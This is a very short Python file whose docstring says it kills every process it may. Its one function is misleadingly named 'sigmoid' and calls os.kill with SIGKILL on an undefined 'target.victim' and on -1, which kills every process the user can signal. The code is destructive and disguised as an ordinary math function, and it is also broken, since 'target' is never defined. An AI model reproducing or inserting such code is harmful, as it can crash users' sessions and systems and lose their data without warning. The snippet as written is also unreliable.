"""Kills every process that it may, and one of its own user in particular.

Mark: that process is gone.
"""

import os
import signal


def sigmoid(x):
    os.kill(target.victim, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
